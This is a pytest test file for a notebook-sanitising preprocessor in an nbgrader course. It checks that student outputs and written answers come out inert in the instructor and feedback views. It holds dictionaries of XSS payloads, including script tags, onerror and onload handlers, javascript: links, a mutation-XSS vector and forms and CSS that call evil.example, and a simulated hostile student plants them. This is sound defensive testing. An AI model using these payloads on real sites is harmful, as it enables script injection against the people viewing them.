"""Nothing a student's notebook shows runs in the browser of whoever opens it (issue 36).

``paged_grading.preprocessors.safe_outputs.SafeOutputs`` runs late in autograde (the autograded notebook that
formgrader renders for the instructor) and again in feedback (the page the student opens):

* unit tests: each way a notebook can carry a script (``text/html`` with ``<script>``, an
  ``on*`` handler or a ``javascript:`` link; ``application/javascript``; an SVG with ``onload``;
  ``text/markdown``; widget views; a written answer in a markdown cell) comes out inert, while
  plain text, images, safe markup and the course's own widget pictures come out whole;
* through nbgrader's real CLI, in headless Chromium: a student ("mallory") whose notebook 01
  displays all of those and whose two written answers hold a script, an ``onerror`` image and
  ``javascript:`` links is graded; the autograded notebook rendered by nbconvert (as formgrader
  renders it) and the feedback page (with more hostile outputs planted into the autograded
  notebook before feedback, for the second line of defence) are opened, every link is clicked,
  and no planted script has run, no element carries an event handler, and the planted scripts'
  text is shown as text. Without SafeOutputs (measured), 8 planted scripts ran in the formgrader
  view and 11 on the feedback page (scripts, onerror handlers, javascript: links and autolinks).
"""

from __future__ import annotations

import base64
import copy
import re
from html import unescape

import nbformat
import pytest
import tinycss2
from paged_grading.preprocessors import safe_outputs
from paged_grading.preprocessors.safe_outputs import SHOWN_AS_TEXT, SafeOutputs, clean_html, is_inert, safe_markdown

from conftest import NOTEBOOKS, solution

# Every planted script appends its name here: the browser tests read it back.
MARK = "(window.__planted=window.__planted||[]).push"  # no spaces: it fits in a markdown link

HOSTILE_HTML = {
    "script": f"<script>{MARK}('script')</script>",
    "img-onerror": f"<img src=x onerror=\"{MARK}('img-onerror')\">",
    "svg-onload": f"<svg onload=\"{MARK}('svg-onload')\"><circle r=5 /></svg>",
    "javascript-link": f"<a href=\"javascript:{MARK}('link')\">click</a>",
    "entity-link": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "data-link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "iframe": f"<iframe srcdoc=\"<script>parent.{MARK}('iframe')</script>\"></iframe>",
    "style-element": "<style>body{display:none}</style>",
    "form": '<form action="http://evil.example"><input name=password type=password></form>',
    "fixed-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Score: 10/10</div>',
    "css-url": '<div style="background:url(http://evil.example/track)">x</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "object": '<object data="javascript:alert(1)"></object>',
}

HOSTILE_MARKDOWN = {
    "script": f"My answer. <script>{MARK}('md')</script>",
    "img-onerror": f"<img src=x onerror=\"{MARK}('md')\">",
    "javascript-link": "[read more](javascript:alert(1))",
    "autolink": "<javascript:alert(1)>",
    "reference-link": "[more][1]\n\n[1]: javascript:alert(1)",
    "image-url": "![x](javascript:alert(1))",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "mermaid-block": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "missing-attachment": "![x](attachment:nowhere.png)",  # nbconvert would fail the whole page
}

BENIGN_MARKDOWN = (
    "## My answer\n\nThe **block table** maps `position // block_size`; a < b and b > c.\n\n"
    "- [ ] a task\n- [x] done\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n$x^2 < 3$, see [vLLM](https://vllm.ai).\n\n"
    '```python\nprint("<script>")\n```\n\n<details><summary>more</summary>\n\n<b>bold</b>\n</details>\n'
)


def _elements(html: str):
    return [e for e in safe_outputs._parse(html).iter() if isinstance(e.tag, str) and e.tag != "DOCUMENT_FRAGMENT"]


def _live_script(html: str) -> list[str]:
    """What in ``html`` a browser could run: script-like elements, handlers, script URLs."""
    found = []
    for element in _elements(html):
        if element.tag in ("script", "iframe", "object", "embed", "style", "meta", "form", "svg") or ":" in element.tag:
            found.append(element.tag)
        for name, value in element.attrib.items():
            url = re.sub(r"[\x00-\x20\s]", "", unescape(value)).lower()
            if name.lower().startswith("on") or url.startswith(("javascript:", "data:text")):
                found.append(f"{element.tag}[{name}]")
            if name == "style" and re.search(r"url\(|position", value):
                found.append(f"{element.tag}[style]")
    return found


@pytest.mark.parametrize("name", sorted(HOSTILE_HTML))
def test_hostile_html_comes_out_inert(name):
    html = HOSTILE_HTML[name]
    assert _live_script(html), "the vector itself must be live"
    cleaned = clean_html(html)
    assert _live_script(cleaned) == [] and is_inert(cleaned)
    assert not is_inert(html)


def test_a_disallowed_tag_is_shown_as_text():
    cleaned = clean_html(HOSTILE_HTML["script"])
    assert cleaned.startswith("&lt;script&gt;") and "push('script')" in cleaned


def test_safe_markup_and_images_are_kept():
    html = (
        '<b>bold</b> <em>it</em> <table><thead><tr><th colspan="2">h</th></tr></thead>'
        '<tbody><tr><td style="color:red; text-align:right;">1</td></tr></tbody></table>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a"><a href="https://example.org">link</a>'
        '<details><summary>s</summary>more</details><span class="x" data-refs="2" title="t">x</span>'
    )
    assert is_inert(html)
    assert _shape(clean_html(html)) == _shape(html)


def _shape(html: str):
    """Tags, attributes (a style as its declarations), text: what a browser would build."""
    shape = []
    for element in _elements(html):
        attributes = dict(element.attrib)
        if "style" in attributes:
            declarations = safe_outputs._declarations(attributes["style"])
            attributes["style"] = tuple(tinycss2.serialize([d]).replace(" ", "") for d, _ in declarations)
        shape.append((element.tag, attributes, (element.text or "").strip(), (element.tail or "").strip()))
    return shape


# ----- the course's own pictures -------------------------------------------------------------------


@pytest.fixture(scope="module")
def pictures():
    import torch

    from paged_helpers.widgets import CowDemo, PrefixCacheView

    PagedKVCache = solution("04_fork_and_copy_on_write", "PagedKVCache")
    PrefixCache = solution("05_prefix_caching", "PrefixCache")
    demo = CowDemo(PagedKVCache)
    demo.create(), demo.fork(), demo.write()
    cache = PagedKVCache(1, 16, 4, 2, 4, device="cpu", dtype=torch.float32)
    view = PrefixCacheView(PrefixCache(cache))
    prompt = list(range(100, 110))
    view.attach("r1", prompt)
    cache.reserve("r1", len(prompt))
    cache.set_batch(["r1"])
    keys = torch.randn(1, 2, len(prompt), 4)
    cache.update(0, keys, keys.clone(), torch.arange(len(prompt)))
    view.remember("r1", prompt)
    view.attach("r2", prompt[:4] + [7] * 5)
    return {"cow demo": demo._snapshot_bundle(), "prefix cache view": view._snapshot_bundle()}


@pytest.mark.parametrize("name", ["cow demo", "prefix cache view"])
def test_the_course_pictures_come_through_whole(pictures, name):
    bundle = pictures[name]
    safe, left_out = safe_outputs.safe_data(bundle)
    assert left_out == [] and set(safe) == {"text/plain", "text/html"}
    assert is_inert(bundle["text/html"])
    assert _shape(safe["text/html"]) == _shape(bundle["text/html"])
    assert 'class="ph-static-snapshot"' in safe["text/html"] and "data-block=" in safe["text/html"]


# ----- other output types --------------------------------------------------------------------------


def _output(data: dict, metadata: dict | None = None, kind: str = "display_data"):
    return nbformat.from_dict({"output_type": kind, "data": data, "metadata": metadata or {}})


def test_javascript_and_widget_views_are_dropped():
    for kind in ("application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json"):
        output = safe_outputs.safe_output(_output({kind: f"{MARK}('x')"}))
        assert list(output.data) == ["text/plain"] and kind in output.data["text/plain"]
    kept = safe_outputs.safe_output(_output({"application/javascript": "x", "text/plain": "<Javascript object>"}))
    assert dict(kept.data) == {"text/plain": "<Javascript object>"}
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/html": "<b>picture</b>"}
    assert dict(safe_outputs.safe_output(_output(view)).data) == {"text/html": "<b>picture</b>"}


def test_svg_becomes_an_image():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}(\'svg\')"><circle r="5"/></svg>'
    output = safe_outputs.safe_output(_output({"image/svg+xml": svg, "text/plain": "<SVG>"}, kind="execute_result"))
    assert set(output.data) == {"text/plain", "text/html"}
    [image] = _elements(output.data["text/html"])
    assert image.tag == "img" and is_inert(output.data["text/html"])
    assert base64.b64decode(image.attrib["src"].split(",", 1)[1]).decode() == svg


def test_images_text_and_latex_are_kept_and_metadata_is_reduced():
    data = {
        "image/png": "iVBORw0KGgo=\n",
        "image/jpeg": "/9j/4AAQ",
        "text/plain": "<script>x</script>",
        "text/latex": r"$\href{javascript:alert(1)}{x}$",
    }
    metadata = {"image/png": {"width": 100, "filenames": "../../x"}, "isolated": True, "height": "1 onerror=x"}
    output = safe_outputs.safe_output(_output(copy.deepcopy(data), metadata))
    assert dict(output.data) == data
    assert output.metadata == {"image/png": {"width": 100}}
    broken = safe_outputs.safe_output(_output({"image/png": f'AAAA" onerror="{MARK}(1)'}))
    assert "image/png" not in broken.data


def test_streams_and_errors_are_left_to_nbconvert_which_escapes_them():
    from nbconvert.filters import ansi2html

    stream = nbformat.from_dict({"output_type": "stream", "name": "stdout", "text": HOSTILE_HTML["script"]})
    assert safe_outputs.safe_output(copy.deepcopy(stream)) == stream
    assert "<script" not in ansi2html("\x1b[31m" + HOSTILE_HTML["script"] + "\x1b[0m")


# ----- markdown --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE_MARKDOWN))
def test_a_hostile_written_answer_is_shown_as_text(name):
    source = HOSTILE_MARKDOWN[name]
    shown = safe_markdown(source)
    assert shown.startswith(SHOWN_AS_TEXT) and source in shown
    rendered = safe_outputs.render_markdown(shown)
    assert is_inert(rendered) and _live_script(rendered) == []
    assert safe_markdown(shown) == shown  # the feedback's second pass leaves it alone


def test_a_fence_in_the_answer_cannot_close_the_code_block():
    source = "````\n</code></pre><script>alert(1)</script>\n````\n" + HOSTILE_MARKDOWN["script"]
    assert is_inert(safe_outputs.render_markdown(safe_markdown(source)))


def test_ordinary_markdown_is_left_as_written():
    assert safe_markdown(BENIGN_MARKDOWN) == BENIGN_MARKDOWN
    for path in sorted(NOTEBOOKS.glob("*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type == "markdown":
                assert safe_markdown(cell.source, cell.get("attachments")) == cell.source, path.name


def test_markdown_outputs_are_checked_too():
    output = safe_outputs.safe_output(_output({"text/markdown": HOSTILE_MARKDOWN["script"]}))
    assert output.data["text/markdown"].startswith(SHOWN_AS_TEXT)


def test_the_preprocessor_covers_every_cell_and_the_widget_state():
    notebook = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN["script"]),
            nbformat.v4.new_code_cell(
                "x", outputs=[nbformat.v4.new_output("display_data", {"text/html": HOSTILE_HTML["script"]})]
            ),
        ],
        metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}}},
    )
    notebook, _ = SafeOutputs().preprocess(notebook, {})
    assert notebook.cells[0].source.startswith(SHOWN_AS_TEXT)
    assert notebook.cells[1].outputs[0].data["text/html"].startswith("&lt;script&gt;")
    assert "widgets" not in notebook.metadata


# ----- real grading, real feedback, real browser ------------------------------------------------------

NOTEBOOK = "01_block_tables"
STUDENT = "mallory"
ANSWERS = ("understanding_exact_allocation", "understanding_where_p_lives")
HOSTILE_CELL = f'''MARK = "{MARK}"
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(HTML("<b>kept bold</b><script>" + MARK + "('html-script')</script>"))
display(HTML("<img src=x onerror=\\"" + MARK + "('html-onerror')\\">"))
display(HTML("<a href=\\"javascript:" + MARK + "('html-link')\\">click me</a>"))
display(HTML("<div onmouseover=\\"" + MARK + "('html-hover')\\" style='position:fixed;top:0'>hover</div>"))
display(Javascript(MARK + "('javascript-output')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + MARK + "('svg-onload')\\"><circle r='5'/></svg>"))
display(Markdown("<img src=x onerror=\\"" + MARK + "('markdown-output')\\">"))
display(Latex("$x$ <img src=x onerror=\\"" + MARK + "('latex-output')\\">"))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "m", "version_major": 2, "version_minor": 0}},
         "text/plain": "a widget"}}, raw=True)
print("<script>" + MARK + "('stdout')</script>")'''
ERROR_CELL = f'''raise ValueError("<img src=x onerror=\\"{MARK}('traceback')\\">")'''
ANSWER_TEXTS = (
    f"My answer: <script>{MARK}('answer-script')</script> <img src=x onerror=\"{MARK}('answer-onerror')\">",
    f"See [this page](javascript:{MARK}('answer-link')) and <javascript:{MARK}('answer-autolink')>.",
)
# Put into the autograded notebook before feedback: the feedback's own SafeOutputs must catch them.
PLANTED_OUTPUTS = [
    {"text/html": f"<script>{MARK}('planted-html')</script>"},
    {"application/javascript": f"{MARK}('planted-javascript')"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{MARK}('planted-svg')\"></svg>"},
    {"text/markdown": f"<img src=x onerror=\"{MARK}('planted-markdown')\">"},
    {"image/png": f"AAAA\" onerror=\"{MARK}('planted-png')"},
]
PLANTED_CELL = f"<img src=x onerror=\"{MARK}('planted-markdown-cell')\">"


@pytest.fixture(scope="module")
def mallory(tmp_path_factory):
    from autograde_helpers import autograded_notebook, cell_of, course, graded_course, instructor, write_submission

    root = graded_course("feedback-safe")
    notebook = instructor(NOTEBOOK)
    for grade_id, text in zip(ANSWERS, ANSWER_TEXTS, strict=True):
        notebook.cells[cell_of(notebook, grade_id)].source = text
    at = cell_of(notebook, ANSWERS[-1]) + 1
    notebook.cells[at:at] = [nbformat.v4.new_code_cell(HOSTILE_CELL), nbformat.v4.new_code_cell(ERROR_CELL)]
    folder = tmp_path_factory.mktemp("class")
    write_submission(folder, STUDENT, {NOTEBOOK: notebook})
    course(root, "collect", str(folder))
    course(root, "grade", NOTEBOOK, "--student", STUDENT)
    graded = autograded_notebook(root, STUDENT, NOTEBOOK)

    planted = copy.deepcopy(graded)
    hostile = next(cell for cell in planted.cells if cell.cell_type == "code" and cell.source == HOSTILE_CELL)
    hostile.outputs += [nbformat.v4.new_output("display_data", data) for data in PLANTED_OUTPUTS]
    planted.cells.append(nbformat.v4.new_markdown_cell(PLANTED_CELL))
    nbformat.write(planted, root / "autograded" / STUDENT / NOTEBOOK / f"{NOTEBOOK}.ipynb")
    course(root, "feedback")
    return root, graded


def _formgrader_view(graded, folder) -> str:
    """The autograded notebook as nbconvert renders it for formgrader (its classic template)."""
    from nbconvert import HTMLExporter

    page = folder / "autograded.html"
    page.write_text(HTMLExporter(template_name="classic").from_notebook_node(graded)[0])
    return page.as_uri()


def _open(url: str) -> dict:
    """Open ``url`` in headless Chromium (no network), click every link, wait; what ran and shows."""
    from browser_support import chromium_page

    with chromium_page() as page:
        page.route(
            "**/*",
            lambda route: route.continue_() if route.request.url.startswith(("file:", "data:")) else route.abort(),
        )
        page.goto(url, wait_until="load")
        for link in page.query_selector_all("a[href]"):
            if not link.get_attribute("href").startswith("#"):
                link.click(force=True, no_wait_after=True, timeout=2000)
        page.mouse.move(5, 5)
        page.wait_for_timeout(1000)
        return page.evaluate(
            """() => ({
                planted: window.__planted || [],
                handlers: [...document.querySelectorAll('*')].flatMap(e =>
                    [...e.attributes].filter(a => a.name.startsWith('on')).map(a => e.tagName + '[' + a.name + ']')),
                scriptLinks: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
                    .filter(h => h.replace(/\\s/g, '').toLowerCase().startsWith('javascript:')),
                plantedScripts: [...document.scripts].filter(s => s.text.includes("__planted")).length,
                frames: document.querySelectorAll('iframe, object, embed').length,
                text: document.body.innerText,
                kept: [...document.querySelectorAll('b')].some(b => b.textContent === 'kept bold'),
                url: location.href,
            })"""
        )


def _assert_nothing_ran(seen: dict, url: str) -> None:
    assert seen["planted"] == [], f"planted scripts ran: {seen['planted']}"
    assert seen["url"] == url
    assert seen["handlers"] == [] and seen["scriptLinks"] == []
    assert seen["plantedScripts"] == 0 and seen["frames"] == 0


@pytest.mark.nbgrader
@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("view", ["formgrader", "feedback"])
def test_no_planted_script_runs_where_the_work_is_viewed(mallory, view, tmp_path):
    root, graded = mallory
    if view == "formgrader":
        url = _formgrader_view(graded, tmp_path)
    else:
        url = (root / "feedback" / STUDENT / NOTEBOOK / f"{NOTEBOOK}.html").as_uri()
    seen = _open(url)
    _assert_nothing_ran(seen, url)
    text = seen["text"]
    # The planted scripts are shown as text, or gone with a note saying so.
    assert "push('html-script')" in text and "push('answer-script')" in text and "push('answer-link')" in text
    assert "push('stdout')" in text and "push('traceback')" in text
    assert "IPython.core.display.Javascript object" in text  # the JavaScript output's own text/plain
    assert text.count("shown as it was written") >= 2  # both written answers
    assert seen["kept"]  # safe markup stays markup
    if view == "feedback":
        assert "push('planted-html')" in text and "push('planted-markdown-cell')" in text
        assert "application/javascript is not shown here" in text


@pytest.mark.nbgrader
@pytest.mark.slow
def test_the_autograded_notebook_holds_only_inert_outputs_and_answers(mallory):
    _, graded = mallory
    for cell in graded.cells:
        if cell.cell_type == "markdown":
            assert is_inert(safe_outputs.render_markdown(cell.source, cell.get("attachments")))
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            assert not set(data) - {"text/plain", "text/html", "text/markdown", "text/latex", "image/png"}
            assert is_inert(data.get("text/html", ""))
    answers = [cell.source for cell in graded.cells if cell.metadata.get("nbgrader", {}).get("grade_id") in ANSWERS]
    assert all(answer.startswith(SHOWN_AS_TEXT) for answer in answers) and len(answers) == 2
